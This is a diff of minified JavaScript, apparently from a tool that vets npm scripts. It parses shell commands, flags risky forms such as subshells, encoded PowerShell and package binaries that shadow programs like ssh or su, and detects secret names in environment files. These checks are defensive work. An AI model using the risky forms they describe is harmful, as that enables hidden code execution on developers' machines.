 if(Qn(e,t,n.directory)!==void 0)return pt;const s=At(n.tree,Pt(n,e));if(s.kind==="missing"&&n.tree.isPending?.(s.path))return He(
-"target-not-judged",t,{path:e});const r=Oa(s,e,t);if("problems"in r)return r;if(!r.tracked&&!r.built)return He("target-m\
+"target-not-judged",t,{path:e});const r=Sa(s,e,t);if("problems"in r)return r;if(!r.tracked&&!r.built)return He("target-m\
 issing",t,{path:e,untracked:!0});if((r.size??0)>Qf)return He("environment-file-unsafe",t,{path:e,names:[]});const o=[...(await n.
-tree.read(r.path)).toString("utf8").matchAll(M0)].map(([,l=""])=>l).filter(l=>mB(l.toUpperCase())&&l.toUpperCase()!=="NO\
+tree.read(r.path)).toString("utf8").matchAll(z0)].map(([,l=""])=>l).filter(l=>gB(l.toUpperCase())&&l.toUpperCase()!=="NO\
 DE_ENV"),c=[...new Set(o)].slice(0,10);return c.length===0?pt:He("environment-file-unsafe",t,{path:e,names:c})}const sh=Fn(
 async n=>{const e=await bf(n,""),t=Array.isArray(e)?e.map(({directory:c})=>c):[],{npm:s,unread:r}=await On(n),i=(s?.all??
-[]).flatMap(({source:c})=>c.kind==="file"?ft(c.at)??[]:[]),o=r.length>0?await H0(n):[];return[...new Set([...t,...i,...o])].
-filter(c=>c!=="")});async function H0(n){const e=await xn(n,""),t=Ti(n,"package.json").map(({path:r})=>Le.posix.dirname(
+[]).flatMap(({source:c})=>c.kind==="file"?ft(c.at)??[]:[]),o=r.length>0?await J0(n):[];return[...new Set([...t,...i,...o])].
+filter(c=>c!=="")});async function J0(n){const e=await xn(n,""),t=Ii(n,"package.json").map(({path:r})=>Le.posix.dirname(
 r)),s=[];for(const r of t){const i=r==="."?void 0:await xn(n,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}
-const mc=Fn(async n=>{const e=new Map;for(const t of await sh(n)){const s=await xn(n,t);for(const[r,i]of s?.binaries??[]){
+const Cc=Fn(async n=>{const e=new Map;for(const t of await sh(n)){const s=await xn(n,t);for(const[r,i]of s?.binaries??[]){
 const o=Le.posix.join(t,i);e.set(Le.posix.basename(r),{file:o,manifest:Le.posix.join(t,"package.json")})}}return e}),rh=new Set(
-[...QE,...`[ alias awk basename cargo chgrp chown cksum clear cmp comm cut date dd df dirname du expr fg
+[...tv,...`[ alias awk basename cargo chgrp chown cksum clear cmp comm cut date dd df dirname du expr fg
   file find fmt fold gawk getopts git gzip hash hostname id install join jobs kill killall ln local
   logname make md5sum mkdir mkfifo mktemp node nl npm npx od open paste patch pkill printf ps pwd
   read readlink realpath rmdir rsync seq set sha256sum shift sleep sort split ssh stat stty su sum
   sync tar tee tr trap tty type umask uname uniq unlink unzip uptime users wait watch which who
-  whoami xargs yes zip`.split(/\s+/)]),z0=new Set(["node","npm","npx","sh"]);async function U0(n,e){const{tree:t,base:s}=n,
-r=await mc(t),i=s&&await mc(s),o=[...r].flatMap(([l,{manifest:B}])=>rh.has(l)?[ih(l,B,i?.has(l)===!0,e)]:[]),c=[];for(const l of Fr(
-n.directory)){const B=await J0(t,Le.posix.join(l,"node_modules/.bin"));for(const{name:d,path:h,isLocked:g}of B)c.push(ih(
-d,h,g,e))}return mt([...o,...c])}function ih(n,e,t,s){return t?z0.has(n)?He("program-replaced",s,{name:n,path:e},"warnin\
-g"):pt:He("program-replaced",s,{name:n,path:e})}const J0=kr(async(n,e)=>{const t=[];for(const{path:s}of n.list(e)){const r=Le.
+  whoami xargs yes zip`.split(/\s+/)]),Z0=new Set(["node","npm","npx","sh"]);async function W0(n,e){const{tree:t,base:s}=n,
+r=await Cc(t),i=s&&await Cc(s),o=[...r].flatMap(([l,{manifest:B}])=>rh.has(l)?[ih(l,B,i?.has(l)===!0,e)]:[]),c=[];for(const l of Fr(
+n.directory)){const B=await K0(t,Le.posix.join(l,"node_modules/.bin"));for(const{name:d,path:h,isLocked:g}of B)c.push(ih(
+d,h,g,e))}return mt([...o,...c])}function ih(n,e,t,s){return t?Z0.has(n)?He("program-replaced",s,{name:n,path:e},"warnin\
+g"):pt:He("program-replaced",s,{name:n,path:e})}const K0=kr(async(n,e)=>{const t=[];for(const{path:s}of n.list(e)){const r=Le.
 posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!rh.has(r))continue;const i=At(n,s);if(i.kind!=="inside")continue;
-const o=i.path===s?await Z0(n,i.entry):i.path,c=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);t.push({name:r,path:s,isLocked:c&&
-!i.entry.tracked})}return t});async function Z0(n,{path:e,size:t=0}){if(t>W0)return;const s=(await n.read(e)).toString("\
-utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&Le.posix.join(Le.posix.dirname(e),r)}const W0=16*1024,
-K0=128*1024,q0=16;function jn(n,e){return n.length>K0?[]:new ex(n,e).list("",0)}function Mn(n){return n.flatMap(e=>[e,...Mn(
+const o=i.path===s?await q0(n,i.entry):i.path,c=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);t.push({name:r,path:s,isLocked:c&&
+!i.entry.tracked})}return t});async function q0(n,{path:e,size:t=0}){if(t>Y0)return;const s=(await n.read(e)).toString("\
+utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&Le.posix.join(Le.posix.dirname(e),r)}const Y0=16*1024,
+V0=128*1024,Q0=16;function jn(n,e){return n.length>V0?[]:new sx(n,e).list("",0)}function Mn(n){return n.flatMap(e=>[e,...Mn(
 e.inside)])}const oh=/^([A-Za-z_]\w*)=(.*)$/s;function ah(n){const{words:e,assignments:t}=n,s=e.findIndex(({text:c,quoted:l})=>l||
-!rv(c));if(s<1)return n;const r=e.slice(s),i=r.findIndex(({text:c})=>!oh.test(c)),o=i<0?r:r.slice(0,i);return{...n,words:r.
-slice(o.length),assignments:[...t,...o.map(Y0)]}}function Y0({text:n,span:e}){const[,t="",s=""]=oh.exec(n)??[];return{name:t,
-value:s,span:e}}function gc({problems:n,substituted:e},{span:t}){const s=r=>r.start<t.end&&r.end>t.start;return e.some(s)||
-n.some(r=>V0.has(r.rule)&&s(r.span))}const V0=new Set(["arithmetic-expansion","command-substitution","dollar-quote","var\
-iable-expansion"]),Q0=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
-X0=/\\.?|\$\(|[^\\`$"]+|./sy;class ex{#e;#t;#s=0;constructor(e,t){this.#e=e,this.#t=t}list(e,t){const s=[];let r=this.#i(),
+!av(c));if(s<1)return n;const r=e.slice(s),i=r.findIndex(({text:c})=>!oh.test(c)),o=i<0?r:r.slice(0,i);return{...n,words:r.
+slice(o.length),assignments:[...t,...o.map(X0)]}}function X0({text:n,span:e}){const[,t="",s=""]=oh.exec(n)??[];return{name:t,
+value:s,span:e}}function yc({problems:n,substituted:e},{span:t}){const s=r=>r.start<t.end&&r.end>t.start;return e.some(s)||
+n.some(r=>ex.has(r.rule)&&s(r.span))}const ex=new Set(["arithmetic-expansion","command-substitution","dollar-quote","var\
+iable-expansion"]),tx=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
+nx=/\\.?|\$\(|[^\\`$"]+|./sy;class sx{#e;#t;#s=0;constructor(e,t){this.#e=e,this.#t=t}list(e,t){const s=[];let r=this.#i(),
 i=!1;const o=(c,l="")=>{const B=this.#n(r,c,l),{words:d,assignments:h,redirections:g,inside:C}=B,y=d.length+h.length+g.length+
 C.length===0,_=s.at(-1);y?_&&(s[s.length-1]={..._,separator:_.separator+l}):s.push(B);const k=/^\|&?$/.test(l)?B:void 0;
-r=this.#i(y?r.pipedFrom:k)};for(;this.#s<this.#e.length;){const c=this.#s,l=this.#r(i?X0:Q0),B=this.#s;if(l==='"')i=!i;else{
-if(l===e&&(!i||e==="`"))return o(c),s;if(l==="$("||l==="`"||!i&&/^[<>]?\($/.test(l)){if(t===q0){o(c);continue}const d=this.#e.
-slice(r.start,c),h=l==="("?iv(d)?"subshell":"definition":"substitution",g=this.list(l==="`"?"`":")",t+1);r.inside.push(...g),
+r=this.#i(y?r.pipedFrom:k)};for(;this.#s<this.#e.length;){const c=this.#s,l=this.#r(i?nx:tx),B=this.#s;if(l==='"')i=!i;else{
+if(l===e&&(!i||e==="`"))return o(c),s;if(l==="$("||l==="`"||!i&&/^[<>]?\($/.test(l)){if(t===Q0){o(c);continue}const d=this.#e.
+slice(r.start,c),h=l==="("?cv(d)?"subshell":"definition":"substitution",g=this.list(l==="`"?"`":")",t+1);r.inside.push(...g),
 r.gaps.push({kind:h,start:c,end:this.#s}),h==="subshell"&&(r.subshell=g)}else!i&&/^(?:[;&|\r\n]+|\))$/.test(l)?o(c,l):!i&&
 l.startsWith("#")&&/^\s?$/.test(this.#e.charAt(c-1))?r.gaps.push({kind:"comment",start:c,end:B}):!i&&/^(?:[<>]|&>)/.test(
 l)&&r.gaps.push({kind:"operator",start:c,end:B})}}return o(this.#e.length),s}#i(e){return{start:this.#s,gaps:[],inside:[],
@@ -4606,240 +4609,240 @@ ator").map(({start:D,end:R})=>{for(;_<C.length&&(C[_]?.span.start??R)<R;)_+=1;co
 D&&/^\d+$/.test(L.text)&&y.add(L),z&&y.add(z),{operator:this.#e.slice(D,R),...z&&{target:z}}}),O=[...h.assignments,...h.
 refused].map(g);return{words:C.filter(D=>!y.has(D)),assignments:O.sort((D,R)=>D.span.start-R.span.start),redirections:v,
 problems:h.problems.map(g),span:{start:r,end:t},separator:s,inside:o,substituted:i.filter(({kind:D})=>D==="substitution"),
-...c&&{pipedFrom:c},...l&&{subshell:l},...i.some(({kind:D})=>D==="definition")&&{defines:!0}}}}const tx=/^-(?:exec|ok)(?:dir)?$/;
-function ro(n){const e=n.findLastIndex(({text:s})=>Lt(s));let t=0;for(;;){const s=Na(n[t]?.text??""),r=s==="find";if(!r&&
-Lt(s)?.kind!=="wrapper")break;let i=t+1;if(s==="command"&&/^-[vV]/.test(n[i]?.text??""))break;const o=({text:c})=>r?tx.test(
+...c&&{pipedFrom:c},...l&&{subshell:l},...i.some(({kind:D})=>D==="definition")&&{defines:!0}}}}const rx=/^-(?:exec|ok)(?:dir)?$/;
+function Lr(n){const e=n.findLastIndex(({text:s})=>Lt(s));let t=0;for(;;){const s=Ui(n[t]?.text??""),r=s==="find";if(!r&&
+Lt(s)?.kind!=="wrapper")break;let i=t+1;if(s==="command"&&/^-[vV]/.test(n[i]?.text??""))break;const o=({text:c})=>r?rx.test(
 c):e>t?Lt(c):!/^-|^\w+=|^\d+[smhd]?$/.test(c);for(let c=n[i];c!==void 0&&!o(c);c=n[i])i+=1;if(i>=n.length)break;t=r?i+1:
-i}return n.slice(t)}function Cc(n){const[e,...t]=n,s=e&&Lt(e.text);if(s?.text===void 0)return;if(s.text==="words")return io(
+i}return n.slice(t)}function oo(n){const[e,...t]=n,s=e&&Lt(e.text);if(s?.text===void 0)return;if(s.text==="words")return ao(
 t);const r=s.text,i=t.findIndex(({text:c})=>r.test(c)),o=t[i];if(o!==void 0){if(s.name==="cmd"){const c=o.text.slice(2);
-return io(c===""?t.slice(i+1):[{...o,text:c},...t.slice(i+1)])}return/^[-/]e/i.test(o.text)&&ch(s)?nx(t[i+1]):ch(s)?io(t.
-slice(i+1)):io(t.slice(i+1,i+2))}}function ch({name:n}){return n==="pwsh"||n==="powershell"}function io(n){return n.length===
-0?void 0:{text:n.map(({text:e})=>e).join(" "),words:n}}function nx(n){return n&&{text:Buffer.from(n.text,"base64").toString(
-"utf16le"),words:[n]}}var sx=at(298);function rx(n,e){const t=jn(n,e);if(t.length===0&&!Af(n))return{commands:t,fault:{part:"\
+return ao(c===""?t.slice(i+1):[{...o,text:c},...t.slice(i+1)])}return/^[-/]e/i.test(o.text)&&ch(s)?ix(t[i+1]):ch(s)?ao(t.
+slice(i+1)):ao(t.slice(i+1,i+2))}}function ch({name:n}){return n==="pwsh"||n==="powershell"}function ao(n){return n.length===
+0?void 0:{text:n.map(({text:e})=>e).join(" "),words:n}}function ix(n){return n&&{text:Buffer.from(n.text,"base64").toString(
+"utf16le"),words:[n]}}var ox=at(298);function ax(n,e){const t=jn(n,e);if(t.length===0&&!Af(n))return{commands:t,fault:{part:"\
 the script",why:"cannot be read"}};const s=Vn(n).problems.find(({rule:r})=>r==="shell-comment");if(s&&t.length>0){const r=n.
 slice(s.span.start,s.span.end);return{commands:t,fault:{part:r,why:"hides the words behind it"}}}for(const[r,i]of t.entries()){
-const o=r===t.length-1,c=ax(i,n)??ix(i,o);if(c!==void 0)return{commands:t,fault:c}}return{commands:t}}function ix({separator:n},e){
-const t=n.trim();if(!(e?t==="":t==="&&"))return{part:t===""?"a line break":t,why:ox}}const ox="joins commands in another\
- way than `&&`";function ax(n,e){const{words:t,redirections:s,inside:r,subshell:i,defines:o,problems:c,assignments:l}=n,
+const o=r===t.length-1,c=lx(i,n)??cx(i,o);if(c!==void 0)return{commands:t,fault:c}}return{commands:t}}function cx({separator:n},e){
+const t=n.trim();if(!(e?t==="":t==="&&"))return{part:t===""?"a line break":t,why:ux}}const ux="joins commands in another\
+ way than `&&`";function lx(n,e){const{words:t,redirections:s,inside:r,subshell:i,defines:o,problems:c,assignments:l}=n,
 B=e.slice(n.span.start,n.span.end).trim(),d=(_,k)=>({part:_,why:k});if(i)return d(B,"runs in a subshell");if(o)return d(
 B,"defines a function");if(r.length>0)return d(B,"runs a command to make a word");const[h]=s;if(h)return d(`${h.operator}\
- ${h.target?.text??""}`,"redirects input or output");const g=l.find(({name:_,value:k})=>!ka(_,k));if(g)return d(`${g.name}\
-=`,"sets a variable that can choose the code that runs");const C=t.find(_=>gc(n,_)&&!cx(n,_,e));if(C){const{start:_,end:k}=C.
-span;return d(e.slice(_,k),"is only known when the script runs")}const y=c.find(_=>!ux(_,t));if(y){const{start:_,end:k}=y.
-span;return d(e.slice(_,k).trim()||B,"is syntax of a shell")}return t.length===0?d(B,"starts no program"):lx(t)}function cx({
+ ${h.target?.text??""}`,"redirects input or output");const g=l.find(({name:_,value:k})=>!xa(_,k));if(g)return d(`${g.name}\
+=`,"sets a variable that can choose the code that runs");const C=t.find(_=>yc(n,_)&&!dx(n,_,e));if(C){const{start:_,end:k}=C.
+span;return d(e.slice(_,k),"is only known when the script runs")}const y=c.find(_=>!Bx(_,t));if(y){const{start:_,end:k}=y.
+span;return d(e.slice(_,k).trim()||B,"is syntax of a shell")}return t.length===0?d(B,"starts no program"):fx(t)}function dx({
 problems:n},{span:e},t){return n.every(s=>s.rule!=="variable-expansion"||s.span.end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.
-test(t.slice(s.span.start,s.span.end)))}function ux({rule:n,span:e,severity:t},s){if(n==="variable-expansion"||t==="warn\
+test(t.slice(s.span.start,s.span.end)))}function Bx({rule:n,span:e,severity:t},s){if(n==="variable-expansion"||t==="warn\
 ing")return!0;if(n!=="brace-expansion")return!1;const r=s.find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&
-Nr(r.text)?.every(i=>!i.startsWith("-"))===!0}function lx(n){const[e]=n,t=e?.text??"";if($B(t)&&!e?.quoted)return{part:t,
-why:"is a word of the shell"};const s=ro(n);if(!uh(t))return s.length<n.length||Lt(t)?.kind==="wrapper"?{part:t,why:"dec\
-ides how another program runs"}:Cc(s)&&t!=="node"?{part:t,why:"runs text as code"}:void 0}function uh(n){const e=Lt(n);return e?.
-name===n&&e.wraps==="as-tool"}const yc={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,
-from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},dx=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
-function Bx([n,...e]){if(n?.text==="shx"){const[t]=e;return t&&(t.text==="echo"||Object.hasOwn(yc,t.text))?e:void 0}return n&&
-Object.hasOwn(yc,n.text)?[n,...e]:void 0}async function fx([n,...e],t){const s=n?.text??"",r=yc[s];if(r===void 0)return;
+Nr(r.text)?.every(i=>!i.startsWith("-"))===!0}function fx(n){const[e]=n,t=e?.text??"";if($B(t)&&!e?.quoted)return{part:t,
+why:"is a word of the shell"};const s=Lr(n);if(!uh(t))return s.length<n.length||Lt(t)?.kind==="wrapper"?{part:t,why:"dec\
+ides how another program runs"}:oo(s)&&t!=="node"?{part:t,why:"runs text as code"}:void 0}function uh(n){const e=Lt(n);return e?.
+name===n&&e.wraps==="as-tool"}const wc={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,
+from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},hx=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
+function px([n,...e]){if(n?.text==="shx"){const[t]=e;return t&&(t.text==="echo"||Object.hasOwn(wc,t.text))?e:void 0}return n&&
+Object.hasOwn(wc,n.text)?[n,...e]:void 0}async function mx([n,...e],t){const s=n?.text??"",r=wc[s];if(r===void 0)return;
 const i=e.find(({text:c})=>c.startsWith("-")&&!r.flags.test(c));if(i)return{part:`${s} ${i.text}`,why:"has a flag that i\
 s not known"};const o=e.flatMap(({text:c})=>c.startsWith("-")?[]:[c]);if(o.length<(r.from<0?2:1))return{part:s,why:"name\
-s no path"};for(const c of o.slice(r.from)){const l=await hx(c,t);if(l!==void 0)return{part:`${s} \u2026 ${c}`,why:l}}}async function hx(n,e){
+s no path"};for(const c of o.slice(r.from)){const l=await gx(c,t);if(l!==void 0)return{part:`${s} \u2026 ${c}`,why:l}}}async function gx(n,e){
 const{tree:t,isOutput:s}=e,r=n.startsWith("/")?void 0:ft(Pt(e,n));if(r===void 0||r==="")return"writes outside of the bui\
-ld outputs";if(/[*?[\]{}!$~\\]/.test(n))return"writes to a path that the text does not show";if(dx.test(r))return"writes\
- to a directory of dependencies";if(ck(r)!==void 0)return"writes a configuration file";const i=t.stat(r);if(i?.tracked&&
+ld outputs";if(/[*?[\]{}!$~\\]/.test(n))return"writes to a path that the text does not show";if(hx.test(r))return"writes\
+ to a directory of dependencies";if(dk(r)!==void 0)return"writes a configuration file";const i=t.stat(r);if(i?.tracked&&
 i.kind!=="directory")return"writes a file of the commit";const o=`${r}/`;if(i?.tracked&&[...t.files()].some(l=>l.path.startsWith(
-o)))return"writes to a directory of the commit";if(!(s?.(r)||(await px(t))(r)))return"writes to a path that git does not\
- ignore and `build_outputs` does not name"}const px=Fn(async n=>{const e=new Map;for(const{path:t}of n.files()){if(Le.posix.
-basename(t)!==".gitignore")continue;const s=await Gi(n,t,mx),r=Le.posix.dirname(t).replace(/^\.$/,"");s&&"text"in s&&e.set(
-r,sx().add(s.text))}return t=>{const s=t.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
+o)))return"writes to a directory of the commit";if(!(s?.(r)||(await Cx(t))(r)))return"writes to a path that git does not\
+ ignore and `build_outputs` does not name"}const Cx=Fn(async n=>{const e=new Map;for(const{path:t}of n.files()){if(Le.posix.
+basename(t)!==".gitignore")continue;const s=await Hi(n,t,yx),r=Le.posix.dirname(t).replace(/^\.$/,"");s&&"text"in s&&e.set(
+r,ox().add(s.text))}return t=>{const s=t.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
 "/")),c=s.slice(i).join("/"),l=o?.test(c),B=o?.test(`${c}/`);l?.ignored||B?.ignored?r=!0:(l?.unignored||B?.unignored)&&(r=
-!1)}return r}}),mx=256*1024;async function gx({body:n,words:e,span:t},s,r){const i=rx(n,qs(s.tree,s.directory)),o=i.fault?
-Mn(i.commands).map(ah):i.commands,c=[];let{fault:l}=i,B=s;for(const[g,C]of o.entries()){const y=!l||C.words.every(R=>!gc(
+!1)}return r}}),yx=256*1024;async function wx({body:n,words:e,span:t},s,r){const i=ax(n,qs(s.tree,s.directory)),o=i.fault?
+Mn(i.commands).map(ah):i.commands,c=[];let{fault:l}=i,B=s;for(const[g,C]of o.entries()){const y=!l||C.words.every(R=>!yc(
 C,R)),_=g===o.length-1&&!i.fault,k=[...C.words.map(R=>({...R,span:t})),..._?e:[]],[v,O]=k;if(v?.text==="cd"){const R=O&&
 ft(Pt(B,O.text));(g>0||k.length!==2||R===void 0)&&(l??={part:"cd",why:"changes the directory in the middle, or leaves th\
-e repository"}),B={...B,directory:R??B.directory};continue}const D=Bx(k);D&&(l??=await fx(D,B)),!(D||v===void 0||!y||TB(
-v.text))&&c.push(await wx(k,B,r))}const d=o.some(({words:g})=>Cx.test(g.map(({text:C})=>C).join(" "))),h=!l&&c.length===
-0&&o.length>0&&!d;return{parts:c,isIdle:h,...l&&{fault:l}}}const Cx=/^(?:\[|exit (?!0$)|false|test )/,yx=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;
-async function wx(n,e,t){const s=uh(n[0]?.text??"")?n:ro(n),[r,...i]=s;if(r===void 0)return pt;const{families:o}=e,c=Ds(
-r.text)?r.text:o?.allowed.get(r.text),l=yx.exec(r.text)?.[1]??r.text,B=n[0]===r?void 0:n[0],d=B?wc(B):pt;if(c===void 0&&
-/[\\/]/.test(l))return mt([d,lh(s,e)]);const{invocation:h,problems:g}=c?nc(c,i,o):nc("npx",[{...r,text:l},...i],o),C=await t.
+e repository"}),B={...B,directory:R??B.directory};continue}const D=px(k);D&&(l??=await mx(D,B)),!(D||v===void 0||!y||TB(
+v.text))&&c.push(await Ex(k,B,r))}const d=o.some(({words:g})=>bx.test(g.map(({text:C})=>C).join(" "))),h=!l&&c.length===
+0&&o.length>0&&!d;return{parts:c,isIdle:h,...l&&{fault:l}}}const bx=/^(?:\[|exit (?!0$)|false|test )/,_x=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;
+async function Ex(n,e,t){const s=uh(n[0]?.text??"")?n:Lr(n),[r,...i]=s;if(r===void 0)return pt;const{families:o}=e,c=Ds(
+r.text)?r.text:o?.allowed.get(r.text),l=_x.exec(r.text)?.[1]??r.text,B=n[0]===r?void 0:n[0],d=B?bc(B):pt;if(c===void 0&&
+/[\\/]/.test(l))return mt([d,lh(s,e)]);const{invocation:h,problems:g}=c?rc(c,i,o):rc("npx",[{...r,text:l},...i],o),C=await t.
 resolve(h,e),y=c===void 0&&C.problems.some(({rule:v})=>v==="binary-missing");if(y&&o.tools.known(l)!==void 0)return mt([
-d,wc(r),{targets:[],problems:g}]);if(y)return mt([d,lh(s,e)]);const k=Cf(h,e.directory);return mt([d,{targets:[],problems:[
-...g,...k]},C])}function wc({text:n,span:e}){return He("program-not-allowed",e,{program:n,group:"other"})}function lh(n,e){
+d,bc(r),{targets:[],problems:g}]);if(y)return mt([d,lh(s,e)]);const k=Cf(h,e.directory);return mt([d,{targets:[],problems:[
+...g,...k]},C])}function bc({text:n,span:e}){return He("program-not-allowed",e,{program:n,group:"other"})}function lh(n,e){
 const[t]=n;if(t===void 0)return pt;const s=n.map(o=>o.text).join(" "),r=n.find(o=>o.span.start!==t.span.start&&(o.text.startsWith(
 "-")||Lt(t.text))),i=r?He("npm-script-form",r.span,{script:e.via??"",text:s,part:t.text,why:"is a program that the gate \
-does not read",words:[r.text]}):pt;return mt([wc(t),i,dh(s,e,t.span)])}function dh(n,e,t){const s=Mn(jn(n)),r=s.flatMap(
-({words:_})=>bx(ro(_)[0],e)),i=r.some(({runsScripts:_})=>_)||s.some(_=>_.substituted.length>0||[..._.words,..._.assignments].
-some(k=>gc(_,k))),o=n.split(Ex).filter(_=>_!==""),c=r.flatMap(({finds:_})=>_?.split(" ")??[]),l=[...new Set([...o,...o.flatMap(
-_x),...c])],B=[e.directory];for(const{words:_}of s){const[k,v]=_;if(!(!/^(?:cd|pushd)$/.test(k?.text??"")||v===void 0)&&
-(B.push(...B.flatMap(O=>ft(Le.posix.join(O,v.text))??[])),B.length>vx))break}const d=[...e.changed],h=[...new Set(B)].flatMap(
+does not read",words:[r.text]}):pt;return mt([bc(t),i,dh(s,e,t.span)])}function dh(n,e,t){const s=Mn(jn(n)),r=s.flatMap(
+({words:_})=>vx(Lr(_)[0],e)),i=r.some(({runsScripts:_})=>_)||s.some(_=>_.substituted.length>0||[..._.words,..._.assignments].
+some(k=>yc(_,k))),o=n.split(Dx).filter(_=>_!==""),c=r.flatMap(({finds:_})=>_?.split(" ")??[]),l=[...new Set([...o,...o.flatMap(
+kx),...c])],B=[e.directory];for(const{words:_}of s){const[k,v]=_;if(!(!/^(?:cd|pushd)$/.test(k?.text??"")||v===void 0)&&
+(B.push(...B.flatMap(O=>ft(Le.posix.join(O,v.text))??[])),B.length>xx))break}const d=[...e.changed],h=[...new Set(B)].flatMap(
 _=>l.map(k=>{const v={...e,directory:_},O=ft(Le.posix.join(_,k));if(O===void 0)return pt;const D=At(e.tree,O);if(D.kind===
-"inside"&&Wt(D.entry.kind))return wB(v,{text:k,span:t});const R=d.filter(z=>/[*?[]/.test(k)?eo(z,O,{dot:!0}):D.kind==="i\
-nside"&&O!==""&&rn(z,O));return mt(R.map(z=>He("target-changed",t,{path:z})))})),g=i?d.filter(Ja):[],{targets:C,problems:y}=mt(
+"inside"&&Wt(D.entry.kind))return bB(v,{text:k,span:t});const R=d.filter(z=>/[*?[]/.test(k)?no(z,O,{dot:!0}):D.kind==="i\
+nside"&&O!==""&&rn(z,O));return mt(R.map(z=>He("target-changed",t,{path:z})))})),g=i?d.filter(Wa):[],{targets:C,problems:y}=mt(
 [...h,...g.map(_=>He("target-changed",t,{path:_}))]);return{targets:[...new Map(C.map(_=>[_.path,_])).values()],problems:[
-...new Map(y.map(_=>[JSON.stringify(_.args),_])).values()]}}function bx(n,{families:e}){const t=n&&!e.allowed.has(n.text)&&
-Lt(n.text);return t&&!Ds(t.name)?[t]:[]}function _x(n){if(!/^[\w./-]*\w$/.test(n))return[];const e=n.replaceAll(".","/"),
+...new Map(y.map(_=>[JSON.stringify(_.args),_])).values()]}}function vx(n,{families:e}){const t=n&&!e.allowed.has(n.text)&&
+Lt(n.text);return t&&!Ds(t.name)?[t]:[]}function kx(n){if(!/^[\w./-]*\w$/.test(n))return[];const e=n.replaceAll(".","/"),
 t=[".py","/__main__.py","/__init__.py"].map(s=>e+s);return[...[".js",".mjs",".cjs",".ts","/index.js"].map(s=>n+s),...t]}
-const Ex=/[\s"'`;&|()<>=:,{}]+/,vx=16;function kx(n,e,t,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,
-`${ac(e)}\0${o.length}`,()=>xx(n,e,t,s),c=>Dx(c,i,t))}async function Bh(n,e,t,s){const r=e.length>0?[await U0(n,t)]:[];for(const i of e)
-r.push(await kx(n,i,t,s));return mt([...r,fh(n,t)])}function fh({directory:n,changed:e},t){const s=Le.posix.join(n,"pack\
-age.json");return e.has(s)?He("target-changed",t,{path:s}):pt}function Dx(n,e,t){return n.why==="cycle"?He("npm-script-c\
-ycle",t,{script:e}):He("npm-script-chain",t,{script:e,limit:n.limit,what:n.why})}async function xx(n,e,t,s){const{event:r,
-body:i,words:o}=e,c=ac(e),l={targets:[Mi(n,{kind:"npm_script",name:r,script:c})],problems:[]},B={...n,via:r},{parts:d,fault:h,
-isIdle:g}=await gx({body:i,words:o,span:t},B,s),C=await Ox(n,e),y=[l];let _=h!==void 0;for(const{problems:k,targets:v}of d){
-const{kept:O,refused:D}=Sx(k,o);if(y.push({targets:v,problems:O.map(Tx(C))}),D===void 0)continue;const R=ph(D)&&!hh(D);_||=
+const Dx=/[\s"'`;&|()<>=:,{}]+/,xx=16;function Ox(n,e,t,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,
+`${uc(e)}\0${o.length}`,()=>Sx(n,e,t,s),c=>Ax(c,i,t))}async function Bh(n,e,t,s){const r=e.length>0?[await W0(n,t)]:[];for(const i of e)
+r.push(await Ox(n,i,t,s));return mt([...r,fh(n,t)])}function fh({directory:n,changed:e},t){const s=Le.posix.join(n,"pack\
+age.json");return e.has(s)?He("target-changed",t,{path:s}):pt}function Ax(n,e,t){return n.why==="cycle"?He("npm-script-c\
+ycle",t,{script:e}):He("npm-script-chain",t,{script:e,limit:n.limit,what:n.why})}async function Sx(n,e,t,s){const{event:r,
+body:i,words:o}=e,c=uc(e),l={targets:[Gi(n,{kind:"npm_script",name:r,script:c})],problems:[]},B={...n,via:r},{parts:d,fault:h,
+isIdle:g}=await wx({body:i,words:o,span:t},B,s),C=await Tx(n,e),y=[l];let _=h!==void 0;for(const{problems:k,targets:v}of d){
+const{kept:O,refused:D}=$x(k,o);if(y.push({targets:v,problems:O.map(Rx(C))}),D===void 0)continue;const R=ph(D)&&!hh(D);_||=
 R;const z=R&&!C?"error":void 0,L={script:r,text:c,reason:D.rule};h||y.push(He("npm-script-text",t,L,z))}if(g&&y.push(He(
-"only-prints",t,{program:"npm",flag:`run ${r}`})),h===void 0)y.push(Ax(o));else{const k=C&&o.length===0?"notice":void 0,
+"only-prints",t,{program:"npm",flag:`run ${r}`})),h===void 0)y.push(Ix(o));else{const k=C&&o.length===0?"notice":void 0,
 v={script:r,text:c,...h,words:o.map(O=>O.text)};y.push(He("npm-script-form",o[0]?.span??t,v,k))}return _&&C&&y.push(dh(i,
